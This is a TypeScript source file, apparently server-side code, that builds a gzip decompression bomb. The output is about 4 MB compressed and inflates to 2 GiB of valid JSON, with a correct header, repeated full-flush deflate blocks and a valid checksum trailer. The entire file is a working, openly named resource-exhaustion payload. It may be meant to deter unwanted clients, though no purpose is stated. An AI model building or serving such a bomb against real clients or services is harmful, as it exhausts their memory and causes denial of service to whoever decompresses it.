// A gzip bomb: about 4 MB on the wire, 2 GiB of valid JSON once inflated, made without ever holding the 2 GiB.

import { setImmediate } from 'node:timers/promises';
import { constants, crc32, deflateRawSync } from 'node:zlib';

/** The least it inflates to. */
const BOMB_BYTES = 2 ** 31;

const BLOCK_BYTES = 2 ** 20;
// RFC 1952: magic, deflate, no flags, no time, no extra flags, unknown system.
const HEADER = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
const CHECKSUMS_A_TURN = 64;

/** A complete gzip file of a JSON list that repeats `entry`: right in all but its size. */
export async function buildGzipBomb(entry: string): Promise<Buffer> {
  const block = Buffer.from(`${entry},`.repeat(Math.ceil(BLOCK_BYTES / (entry.length + 1))));
  const count = Math.ceil(BOMB_BYTES / block.length);
  const first = Buffer.from('[');
  const last = Buffer.from(`${entry}]`);
  // A full flush ends on a byte and forgets what was before, so one compressed block can be repeated as it is.
  const repeated = Buffer.alloc(count * flushed(block).length, flushed(block));
  const checksum = crc32(last, await checksumOf(block, count, crc32(first)));
  const size = first.length + count * block.length + last.length;
  return Buffer.concat([HEADER, flushed(first), repeated, deflateRawSync(last), trailer(checksum, size)]);
}

function flushed(bytes: Buffer): Buffer {
  return deflateRawSync(bytes, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
}

/** The checksum goes over all 2 GiB (half a second), so other requests get their turn in between. */
async function checksumOf(block: Buffer, count: number, start: number): Promise<number> {
  let checksum = start;
  for (let done = 0; done < count; done += 1) {
    checksum = crc32(block, checksum);
    if (done % CHECKSUMS_A_TURN === 0) await setImmediate();
  }
  return checksum;
}

function trailer(checksum: number, size: number): Buffer {
  const bytes = Buffer.alloc(8);
  bytes.writeUInt32LE(checksum, 0);
  bytes.writeUInt32LE(size % 2 ** 32, 4);
  return bytes;
}
